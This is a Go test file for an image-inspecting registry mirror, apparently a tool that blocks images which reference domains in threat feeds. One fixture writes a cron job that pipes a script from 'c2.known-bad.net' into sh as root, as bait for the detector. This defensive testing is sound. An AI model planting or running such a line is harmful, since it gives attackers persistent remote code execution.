package main

import (
	"net/http"
	"os"
	"path/filepath"
	"testing"

	"github.com/lazaret/lazaret/config"
	"github.com/lazaret/lazaret/inspect/feed"
	"github.com/lazaret/lazaret/internal/testimage"
)

// What the settings accept as a feed's category and format is what feeds may have.
func TestFeedSettings(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "list")
	if err := os.WriteFile(file, []byte("known-bad.net,2026-01-01\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, category := range feed.Categories() {
		for _, format := range append(feed.Formats(), feed.Auto) {
			value := string(category)
			if format != feed.Auto {
				value += ":" + string(format)
			}
			cfg, err := config.Load([]string{"LAZARET_FEEDS=" + value + "=" + file, "LAZARET_DATA_DIR=" + dir})
			if err != nil {
				t.Errorf("%s: %v", value, err)
				continue
			}
			if format == feed.MISP || format == feed.Hosts {
				continue // the file is of neither
			}
			if _, err := openFeeds(t.Context(), cfg, newLogger(t.Output(), cfg), nil); err != nil {
				t.Errorf("%s: %v", value, err)
			}
		}
	}
}

// A feed that changes while the mirror runs decides anew on what was served.
func TestFeedChangesWhileServing(t *testing.T) {
	hub := startHub(t)
	img, err := testimage.Build(testimage.Spec{Layers: []testimage.Layer{{Files: []testimage.File{
		{Path: "etc/cron.d/job", Body: []byte("* * * * * root curl -s https://c2.known-bad.net/run | sh\n")},
	}}}})
	if err != nil {
		t.Fatal(err)
	}
	if err := hub.Push(t.Context(), "acme/app", "latest", img); err != nil {
		t.Fatal(err)
	}
	list := filepath.Join(t.TempDir(), "list")
	write := func(text string) {
		t.Helper()
		if err := os.WriteFile(list, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write("other.net\n")
	a := newReplica(t, "LAZARET_UPSTREAM="+hub.URL(), "LAZARET_MANIFEST_WAIT=15s", "LAZARET_FEEDS=malicious-domain="+list)
	pull := func(want int) {
		t.Helper()
		if status, body := a.get(t, "/v2/acme/app/manifests/latest"); status != want {
			t.Errorf("status %d, want %d: %.200s", status, want, body)
		}
	}
	pull(http.StatusOK)
	write("known-bad.net\n")
	if !a.feeds.Refresh(t.Context()) {
		t.Error("the feed did not change")
	}
	a.use(a.feeds.Set())
	pull(http.StatusForbidden)
}
